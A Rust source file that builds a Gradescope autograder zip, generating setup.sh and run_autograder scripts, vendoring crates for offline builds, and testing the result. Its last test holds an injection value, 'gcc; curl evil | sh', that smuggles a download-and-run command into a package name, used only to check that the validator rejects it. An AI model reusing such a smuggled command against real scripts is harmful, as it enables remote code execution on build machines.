//! `gradescope-bundle`: the autograder zip a teacher uploads to Gradescope,
//! holding everything its image needs to grade offline.
//!
//! # What goes in, and why
//!
//! Gradescope unpacks the zip into `/autograder/source`, runs `setup.sh`
//! there once, as root and with the network, to build the image, then runs
//! `run_autograder` as root in a fresh container of that image for each
//! submission, which it puts in `/autograder/submission`. So the zip holds:
//!
//! - `setup.sh` and `run_autograder` ([`setup_script`], [`run_script`]);
//! - `assignment.toml`, the teacher's assignment, checked before anything
//!   else is done;
//! - `queens/`: the grader's sources, built by `setup.sh` in the image: a
//!   workspace of the six crates it is made of ([`CRATES`]) and the
//!   workspace's `Cargo.lock`. The grader is shipped as source, not as the
//!   binary that makes the bundle, because it finds the suite's crates by a
//!   path fixed when it is compiled (`template::crates_folder`): built in
//!   the image, that path is `/autograder/source/queens/crates`, where the
//!   sources are; the bundler's binary would look for them in the teacher's
//!   checkout, and would need the teacher's C library besides;
//! - `cargo/`: the cargo home of every build in the image, whose
//!   `config.toml` replaces crates.io with `cargo/vendor`, the crates.io
//!   dependencies of those six crates as `cargo vendor` copies them. Every
//!   build (the grader's, the suite's, a student's) is then offline, and
//!   runs against the versions the lock file names. A build in bubblewrap
//!   sees the cargo home, so the vendored crates are inside it.
//!
//! `setup.sh` pins the Rust release of the toolchain that made the bundle,
//! the one the lock file was tested with. Its two steps that download (the
//! Debian packages, the toolchain) are skipped when `QUEENS_SETUP_OFFLINE`
//! is 1, for a machine that has what they install: `cargo xtask
//! gradescope-check` runs the rest so, offline, and then `run_autograder`
//! as a Gradescope container would.

use std::collections::BTreeSet;
use std::io::Write as _;
use std::path::{Path, PathBuf};

use queens_build::assignment::{Assignment, DEFAULT};
use queens_build::rust_build::Toolchain;
use queens_build::template::{WORKSPACE_LOCK, crates_folder};
use queens_jail::copy::copy_submission;
use queens_jail::words::first_line;

use crate::failure::Failure;

/// `queens-grade gradescope-bundle`.
#[derive(Debug, clap::Args)]
pub(crate) struct BundleArgs {
    /// The assignment the autograder grades by (default: the default one).
    #[arg(long, value_name = "FILE")]
    assignment: Option<PathBuf>,
    /// The zip to write (whole or not at all), to upload as the
    /// assignment's autograder.
    #[arg(long, value_name = "FILE")]
    out: PathBuf,
}

/// Where Gradescope unpacks the zip.
const SOURCE: &str = "/autograder/source";

/// The crates the grader is made of: the suite's two, the workspace's
/// toolkit, the jail, the builds of submissions, and the grader itself.
const CRATES: [&str; 6] = [
    "queens-core",
    "queens-conformance",
    "queens-toolkit",
    "queens-jail",
    "queens-build",
    "queens-grade",
];

/// The Debian packages `setup.sh` installs whatever the assignment's
/// languages are: bubblewrap (used where the container lets it make a
/// sandbox), curl and the certificates to fetch rustup, and gcc, whose `cc`
/// links every Rust program.
const ALWAYS_INSTALLED: [&str; 4] = ["bubblewrap", "ca-certificates", "curl", "gcc"];

/// Checks the assignment, lays the bundle out in a temporary folder,
/// vendors the crates, and writes the zip; prints what it holds.
pub(crate) fn run(args: &BundleArgs) -> Result<String, Failure> {
    let text = match &args.assignment {
        Some(path) => Assignment::read_text(path).map_err(Failure::Input)?,
        None => DEFAULT.to_owned(),
    };
    let origin = args.assignment.as_ref().map_or_else(
        || "the default assignment".to_owned(),
        |path| path.display().to_string(),
    );
    let assignment = Assignment::parse(&text, &origin).map_err(Failure::Input)?;
    let packages = packages(&assignment).map_err(Failure::Input)?;
    queens_toolkit::files::check_writable(&args.out)
        .map_err(|error| Failure::Input(format!("cannot write {}: {error}", args.out.display())))?;
    let toolchain = Toolchain::find().map_err(Failure::Machine)?;
    let rust = rust_release(&toolchain.rustc).map_err(Failure::Machine)?;
    let stage = tempfile::tempdir()
        .map_err(|error| Failure::Machine(format!("cannot make a scratch folder: {error}")))?;
    lay_out(stage.path(), &text, &rust, &packages).map_err(Failure::Machine)?;
    let vendored = vendor(stage.path(), &toolchain.cargo).map_err(Failure::Machine)?;
    let (bytes, files) = zip_folder(stage.path()).map_err(Failure::Machine)?;
    queens_toolkit::files::write_whole(&args.out, &bytes).map_err(|error| {
        Failure::Output(format!("cannot write {}: {error}", args.out.display()))
    })?;
    Ok(format!(
        "wrote {}: {files} files, {:.1} MiB: setup.sh, run_autograder, assignment.toml, the \
         grader's sources ({}) with Cargo.lock, and {vendored} crates from crates.io vendored; \
         setup.sh installs Rust {rust} and {}\n\
         upload it as the assignment's autograder (Gradescope: Configure Autograder, zip file \
         upload); `cargo xtask gradescope-check` tests such a bundle end to end\n",
        args.out.display(),
        bytes.len() as f64 / f64::from(1 << 20),
        CRATES.join(", "),
        packages.join(" "),
    ))
}

/// The Debian packages the image needs: the assignment's languages' and
/// [`ALWAYS_INSTALLED`], sorted. Errs on a name Debian would not allow,
/// which would otherwise be a word of `setup.sh`.
fn packages(assignment: &Assignment) -> Result<Vec<String>, String> {
    let mut packages: BTreeSet<String> = ALWAYS_INSTALLED.map(str::to_owned).into();
    for (name, language) in &assignment.languages {
        if let Some(package) = &language.package {
            let allowed = package.len() >= 2
                && package.starts_with(|c: char| c.is_ascii_lowercase() || c.is_ascii_digit())
                && package.chars().all(|c| {
                    c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, '+' | '-' | '.')
                });
            if !allowed {
                return Err(format!(
                    "languages.{name}.package: {package:?} is not a Debian package name"
                ));
            }
            packages.insert(package.clone());
        }
    }
    Ok(packages.into_iter().collect())
}

/// The release of the toolchain whose `rustc` is given ("1.95.0"), for
/// `setup.sh` to install; "stable" for a nightly or beta, which rustup
/// cannot pin by that name.
fn rust_release(rustc: &Path) -> Result<String, String> {
    let output = std::process::Command::new(rustc)
        .arg("--version")
        .output()
        .map_err(|error| format!("{}: {error}", rustc.display()))?;
    let printed = String::from_utf8_lossy(&output.stdout);
    let release = printed
        .split_whitespace()
        .nth(1)
        .filter(|_| output.status.success())
        .ok_or_else(|| {
            format!(
                "{} --version failed: {}",
                rustc.display(),
                first_line(&output.stderr)
            )
        })?;
    Ok(if release.contains('-') {
        "stable".to_owned()
    } else {
        release.to_owned()
    })
}

/// Writes everything but the vendored crates into `stage`: the scripts,
/// the assignment `text`, the grader's workspace and the cargo home's
/// configuration.
fn lay_out(stage: &Path, text: &str, rust: &str, packages: &[String]) -> Result<(), String> {
    let write = |relative: &str, contents: &str, mode: u32| {
        use std::os::unix::fs::PermissionsExt;
        let path = stage.join(relative);
        std::fs::write(&path, contents)
            .and_then(|()| std::fs::set_permissions(&path, std::fs::Permissions::from_mode(mode)))
            .map_err(|error| format!("{}: {error}", path.display()))
    };
    write("setup.sh", &setup_script(rust, packages), 0o755)?;
    write("run_autograder", &run_script(), 0o755)?;
    write("assignment.toml", text, 0o644)?;
    for folder in ["queens", "queens/crates", "cargo"] {
        std::fs::create_dir(stage.join(folder)).map_err(|error| format!("{folder}: {error}"))?;
    }
    let crates = crates_folder();
    let workspace = crates
        .parent()
        .ok_or("the grader's crates are in no workspace")?
        .join("Cargo.toml");
    let manifest = std::fs::read_to_string(&workspace)
        .map_err(|error| format!("{}: {error}", workspace.display()))?;
    write("queens/Cargo.toml", &bundle_manifest(&manifest)?, 0o644)?;
    write("queens/Cargo.lock", WORKSPACE_LOCK, 0o644)?;
    for name in CRATES {
        copy_submission(
            &crates.join(name),
            &stage.join("queens/crates").join(name),
            |entry| entry == "target",
        )?;
    }
    write("cargo/config.toml", CARGO_CONFIG, 0o644)
}

/// The workspace's manifest `text` made the manifest of the bundle's
/// workspace: the [`CRATES`] its only members, the workspace dependencies
/// on the crates left out dropped; the shared package fields, lints and
/// profiles kept, as the crates inherit them.
fn bundle_manifest(text: &str) -> Result<String, String> {
    let mut document: toml_edit::DocumentMut = text
        .parse()
        .map_err(|error: toml_edit::TomlError| format!("the workspace's Cargo.toml: {error}"))?;
    let workspace = document
        .get_mut("workspace")
        .and_then(toml_edit::Item::as_table_like_mut)
        .ok_or("the workspace's Cargo.toml has no [workspace]")?;
    let members: toml_edit::Array = CRATES.iter().map(|name| format!("crates/{name}")).collect();
    workspace.insert("members", toml_edit::value(members));
    workspace.remove("exclude");
    workspace.remove("default-members");
    if let Some(dependencies) = workspace
        .get_mut("dependencies")
        .and_then(toml_edit::Item::as_table_like_mut)
    {
        let left_out: Vec<String> = dependencies
            .iter()
            .filter(|(name, item)| item.get("path").is_some() && !CRATES.contains(name))
            .map(|(name, _)| name.to_owned())
            .collect();
        for name in left_out {
            dependencies.remove(&name);
        }
    }
    Ok(format!(
        "# The grader's workspace in a queens-grade autograder, made by `queens-grade\n\
         # gradescope-bundle` from the queens workspace's manifest: the crates the\n\
         # grader is made of, built offline by setup.sh.\n\n{document}"
    ))
}

/// The cargo home's configuration: crates.io is the vendored copy beside
/// it, and cargo never goes to the network.
const CARGO_CONFIG: &str = "\
# Every build in the image takes crates.io's crates from the copies that
# `queens-grade gradescope-bundle` vendored, and none goes to the network.
[source.crates-io]
replace-with = \"vendored\"

[source.vendored]
directory = \"/autograder/source/cargo/vendor\"

[net]
offline = true
";

/// The environment every script of the bundle sets: the toolchain where
/// `setup.sh` installs it, and the cargo home with the vendored crates.
fn environment() -> String {
    format!(
        "# Rust where setup.sh installs it, readable by every user: without\n\
         # bubblewrap (a Gradescope container) each build runs as a uid of its own.\n\
         export RUSTUP_HOME=/usr/local/rustup\n\
         export PATH=/usr/local/cargo/bin:$PATH\n\
         # The cargo home of every build: crates.io's crates from the vendored copies.\n\
         export CARGO_HOME={SOURCE}/cargo\n"
    )
}

/// The grader, as `setup.sh` builds it.
fn grader() -> String {
    format!("{SOURCE}/queens/target/release/queens-grade")
}

/// The grader's target folder: the suite's dependencies, built once by
/// `setup.sh` and linked into every Rust build.
fn warm() -> String {
    format!("{SOURCE}/warm")
}

/// `setup.sh`, installing Rust `rust` and the Debian `packages`.
fn setup_script(rust: &str, packages: &[String]) -> String {
    let packages = packages.join(" ");
    let environment = environment();
    let (grader, warm) = (grader(), warm());
    format!(
        r#"#!/usr/bin/env bash
# setup.sh of a queens-grade autograder, made by `queens-grade
# gradescope-bundle`. Gradescope runs it once, as root and with the network,
# to build the autograder's image: it installs the languages' compilers and
# Rust, builds the grader from the sources beside it, and builds the suite's
# dependencies once, so that grading needs no network. Steps 1 and 2
# download; with QUEENS_SETUP_OFFLINE=1 they are skipped, for a machine that
# has what they install (`cargo xtask gradescope-check` runs it so).
set -euo pipefail
cd {SOURCE}

{environment}
if [ "${{QUEENS_SETUP_OFFLINE:-0}}" != 1 ]; then
    echo "setup: 1. Debian packages: {packages}"
    apt-get update
    DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends {packages}
    echo "setup: 2. Rust {rust} in /usr/local, with rustup"
    curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs \
        | CARGO_HOME=/usr/local/cargo sh -s -- -y --no-modify-path --profile minimal \
            --default-toolchain {rust}
    chmod -R a+rX /usr/local/rustup /usr/local/cargo
else
    echo "setup: 1 and 2 skipped (QUEENS_SETUP_OFFLINE=1): no Debian package, no toolchain downloaded; $(rustc --version)"
fi

echo "setup: 3. the grader, built offline from its sources"
cargo build --release --offline --locked --manifest-path {SOURCE}/queens/Cargo.toml -p queens-grade
# Builds and checks run as uids of their own: they read the toolchain, the
# vendored crates, the suite's crates and the grader itself (their relay).
# The assignment, with its seed, is the grader's alone.
chmod 755 /autograder
chmod -R a+rX {SOURCE}
chmod 600 {SOURCE}/assignment.toml

echo "setup: 4. the suite's dependencies, built once into {warm}"
{grader} warm --assignment {SOURCE}/assignment.toml --target-dir {warm}
echo "setup: done"
"#
    )
}

/// `run_autograder`.
fn run_script() -> String {
    let environment = environment();
    let (grader, warm) = (grader(), warm());
    format!(
        r#"#!/usr/bin/env bash
# run_autograder of a queens-grade autograder, made by `queens-grade
# gradescope-bundle`. Gradescope runs it as root in a fresh container of the
# image setup.sh made, once per submission, with the student's files in
# /autograder/submission: it grades them with the conformance suite,
# offline, and writes Gradescope's results.json.
set -euo pipefail

{environment}
# Only the grader writes the results: no build or check may put a file or
# a link there first.
mkdir -p /autograder/results
chmod 755 /autograder/results
exec {grader} grade /autograder/submission \
    --assignment {SOURCE}/assignment.toml \
    --format gradescope --out /autograder/results/results.json \
    --target-dir {warm}
"#
    )
}

/// Runs `cargo vendor` for the bundle's workspace in `stage` into
/// `cargo/vendor`, which also trims the lock file to its crates; returns
/// how many crates it copied.
fn vendor(stage: &Path, cargo: &Path) -> Result<usize, String> {
    let output = std::process::Command::new(cargo)
        .arg("vendor")
        .arg("--manifest-path")
        .arg(stage.join("queens/Cargo.toml"))
        .arg(stage.join("cargo/vendor"))
        .stdin(std::process::Stdio::null())
        .output()
        .map_err(|error| format!("cannot run {}: {error}", cargo.display()))?;
    if !output.status.success() {
        let stderr = String::from_utf8_lossy(&output.stderr);
        let error = stderr
            .lines()
            .find(|line| line.starts_with("error"))
            .unwrap_or_else(|| stderr.lines().next().unwrap_or("no message"));
        return Err(format!("cargo vendor failed: {error}"));
    }
    let entries = std::fs::read_dir(stage.join("cargo/vendor"))
        .map_err(|error| format!("the vendored crates: {error}"))?;
    Ok(entries.filter_map(Result::ok).count())
}

/// The zip of every file below `folder`, in the order of their paths,
/// executable files `0755` and the others `0644`; and how many files.
fn zip_folder(folder: &Path) -> Result<(Vec<u8>, usize), String> {
    let mut files = Vec::new();
    list_files(folder, "", &mut files)?;
    files.sort();
    let zip_error = |error: zip::result::ZipError| format!("cannot make the zip: {error}");
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, executable) in &files {
        let options = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated)
            .unix_permissions(if *executable { 0o755 } else { 0o644 });
        writer
            .start_file(name.as_str(), options)
            .map_err(zip_error)?;
        let contents =
            std::fs::read(folder.join(name)).map_err(|error| format!("{name}: {error}"))?;
        writer
            .write_all(&contents)
            .map_err(|error| format!("cannot make the zip: {error}"))?;
    }
    let bytes = writer.finish().map_err(zip_error)?.into_inner();
    Ok((bytes, files.len()))
}

/// Adds the files below `folder` to `files`, by their path from the
/// bundle's root (`prefix` is the folder's), each with whether it is
/// executable. Errs on anything but files and folders.
fn list_files(folder: &Path, prefix: &str, files: &mut Vec<(String, bool)>) -> Result<(), String> {
    use std::os::unix::fs::PermissionsExt;
    let entries =
        std::fs::read_dir(folder).map_err(|error| format!("{}: {error}", folder.display()))?;
    for entry in entries {
        let entry = entry.map_err(|error| format!("{}: {error}", folder.display()))?;
        let name = entry
            .file_name()
            .into_string()
            .map_err(|name| format!("{}: a name that is not UTF-8", Path::new(&name).display()))?;
        let relative = format!("{prefix}{name}");
        let metadata = std::fs::symlink_metadata(entry.path())
            .map_err(|error| format!("{relative}: {error}"))?;
        if metadata.is_dir() {
            list_files(&entry.path(), &format!("{relative}/"), files)?;
        } else if metadata.is_file() {
            files.push((relative, metadata.permissions().mode() & 0o111 != 0));
        } else {
            return Err(format!("{relative}: neither a file nor a folder"));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The names in the zip `bytes`, and the mode of each.
    fn entries(bytes: &[u8]) -> Vec<(String, u32)> {
        let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
        (0..archive.len())
            .map(|index| {
                let file = archive.by_index(index).unwrap();
                (file.name().to_owned(), file.unix_mode().unwrap() & 0o777)
            })
            .collect()
    }

    #[test]
    fn the_bundle_holds_the_scripts_the_assignment_and_the_graders_sources() {
        let stage = tempfile::tempdir().unwrap();
        let packages = packages(&Assignment::default_assignment()).unwrap();
        lay_out(stage.path(), "[scope]\nseed = 7\n", "1.95.0", &packages).unwrap();
        let (bytes, files) = zip_folder(stage.path()).unwrap();
        let entries = entries(&bytes);
        assert_eq!(entries.len(), files);
        let mode = |name: &str| {
            entries
                .iter()
                .find(|(entry, _)| entry == name)
                .map(|(_, mode)| *mode)
                .unwrap_or_else(|| panic!("{name} is not in the zip"))
        };
        assert_eq!(mode("setup.sh"), 0o755);
        assert_eq!(mode("run_autograder"), 0o755);
        for file in [
            "assignment.toml",
            "cargo/config.toml",
            "queens/Cargo.toml",
            "queens/Cargo.lock",
            "queens/crates/queens-core/src/lib.rs",
            "queens/crates/queens-core/data/queens-counts.csv",
            "queens/crates/queens-conformance/src/lib.rs",
            "queens/crates/queens-toolkit/src/lib.rs",
            "queens/crates/queens-jail/src/lib.rs",
            "queens/crates/queens-build/src/lib.rs",
            "queens/crates/queens-build/assignment.toml",
            "queens/crates/queens-grade/src/main.rs",
        ] {
            assert_eq!(mode(file), 0o644, "{file}");
        }
        // In the order of their paths; no build output, nothing but the
        // scripts and the assignment at the top.
        let names: Vec<&str> = entries.iter().map(|(name, _)| name.as_str()).collect();
        assert_eq!(names[0], "assignment.toml");
        assert!(names.iter().all(|name| !name.contains("/target/")));
        assert!(names.iter().all(|name| {
            ["assignment.toml", "run_autograder", "setup.sh"].contains(name)
                || name.starts_with("queens/")
                || name.starts_with("cargo/")
        }));
        let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
        let mut assignment = String::new();
        std::io::Read::read_to_string(
            &mut archive.by_name("assignment.toml").unwrap(),
            &mut assignment,
        )
        .unwrap();
        assert_eq!(assignment, "[scope]\nseed = 7\n");
    }

    #[test]
    fn setup_installs_pins_builds_and_warms() {
        let script = setup_script("1.95.0", &["bubblewrap".to_owned(), "gcc".to_owned()]);
        for line in [
            "#!/usr/bin/env bash",
            "set -euo pipefail",
            "export RUSTUP_HOME=/usr/local/rustup",
            "export CARGO_HOME=/autograder/source/cargo",
            "if [ \"${QUEENS_SETUP_OFFLINE:-0}\" != 1 ]; then",
            "    DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends bubblewrap gcc",
            "            --default-toolchain 1.95.0",
            "    chmod -R a+rX /usr/local/rustup /usr/local/cargo",
            "cargo build --release --offline --locked --manifest-path /autograder/source/queens/Cargo.toml -p queens-grade",
            "chmod -R a+rX /autograder/source",
            "chmod 600 /autograder/source/assignment.toml",
            "/autograder/source/queens/target/release/queens-grade warm --assignment /autograder/source/assignment.toml --target-dir /autograder/source/warm",
        ] {
            assert!(
                script.lines().any(|candidate| candidate == line),
                "setup.sh lacks {line:?}:\n{script}"
            );
        }
    }

    #[test]
    fn run_autograder_grades_the_submission_into_results_json() {
        let script = run_script();
        for line in [
            "export CARGO_HOME=/autograder/source/cargo",
            "export PATH=/usr/local/cargo/bin:$PATH",
            "chmod 755 /autograder/results",
            "exec /autograder/source/queens/target/release/queens-grade grade /autograder/submission \\",
            "    --assignment /autograder/source/assignment.toml \\",
            "    --format gradescope --out /autograder/results/results.json \\",
            "    --target-dir /autograder/source/warm",
        ] {
            assert!(
                script.lines().any(|candidate| candidate == line),
                "run_autograder lacks {line:?}:\n{script}"
            );
        }
    }

    #[test]
    fn the_bundles_workspace_is_the_graders_crates() {
        let manifest = bundle_manifest(
            "[workspace]\nmembers = [\"crates/*\", \"xtask\"]\nexclude = [\"examples\"]\n\
             default-members = [\"crates/*\"]\n\n[workspace.package]\nedition = \"2024\"\n\n\
             [workspace.dependencies]\nqueens-core = { path = \"crates/queens-core\", version = \"0.1.0\" }\n\
             queens-naive = { path = \"crates/queens-naive\" }\nserde = \"1\"\n\n[profile.release]\nlto = \"thin\"\n",
        )
        .unwrap();
        let parsed: toml::Table = manifest.parse().unwrap();
        let workspace = parsed["workspace"].as_table().unwrap();
        let members: Vec<&str> = workspace["members"]
            .as_array()
            .unwrap()
            .iter()
            .map(|member| member.as_str().unwrap())
            .collect();
        assert_eq!(
            members,
            [
                "crates/queens-core",
                "crates/queens-conformance",
                "crates/queens-toolkit",
                "crates/queens-jail",
                "crates/queens-build",
                "crates/queens-grade"
            ]
        );
        assert!(!workspace.contains_key("exclude"));
        assert!(!workspace.contains_key("default-members"));
        let dependencies: Vec<&String> = workspace["dependencies"]
            .as_table()
            .unwrap()
            .keys()
            .collect();
        assert_eq!(dependencies, ["queens-core", "serde"]);
        assert_eq!(workspace["package"]["edition"].as_str(), Some("2024"));
        assert_eq!(parsed["profile"]["release"]["lto"].as_str(), Some("thin"));
    }

    #[test]
    fn packages_are_the_languages_and_what_rust_needs() {
        assert_eq!(
            packages(&Assignment::default_assignment()).unwrap(),
            [
                "bubblewrap",
                "ca-certificates",
                "curl",
                "default-jdk",
                "g++",
                "gcc",
                "python3"
            ]
        );
        let hostile = Assignment::parse(
            "[languages.c]\npackage = \"gcc; curl evil | sh\"\n",
            "a.toml",
        )
        .unwrap();
        assert_eq!(
            packages(&hostile).unwrap_err(),
            "languages.c.package: \"gcc; curl evil | sh\" is not a Debian package name"
        );
    }
}
